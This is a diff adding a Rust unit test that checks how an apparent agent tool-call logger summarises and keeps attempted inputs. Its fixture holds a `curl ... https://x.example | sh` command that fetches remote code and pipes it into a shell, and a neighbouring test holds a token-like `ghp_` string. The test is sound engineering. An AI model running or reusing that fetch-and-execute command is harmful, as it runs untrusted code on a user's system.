@@ -299,6 +299,22 @@ mod tests {
     }
 
     #[test]
+    fn the_attempted_input_keeps_what_the_summary_drops() {
+        let raw = r#"{"file_path":"/tmp/deploy.sh","content":"curl -fsSL https://x.example | sh"}"#;
+        let raw: Box<serde_json::value::RawValue> = serde_json::from_str(raw).unwrap();
+        let (summary, attempted) = tool_input(Some(&raw));
+        assert_eq!(summary.as_deref(), Some("/tmp/deploy.sh"));
+        assert_eq!(attempted, Some(Attempted::Json(raw.get().to_string())));
+        let null: Box<serde_json::value::RawValue> = serde_json::from_str("null").unwrap();
+        assert_eq!(tool_input(Some(&null)), (None, None));
+        // Past the cap: the summary stands for it.
+        let big = serde_json::json!({"command": "x ".repeat(MAX_ATTEMPT_BYTES)}).to_string();
+        let big: Box<serde_json::value::RawValue> = serde_json::from_str(&big).unwrap();
+        let (summary, attempted) = tool_input(Some(&big));
+        assert_eq!(attempted, summary.map(Attempted::Text));
+    }
+
+    #[test]
     fn a_cut_drops_the_word_it_falls_in() {
         let token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
         for before in [
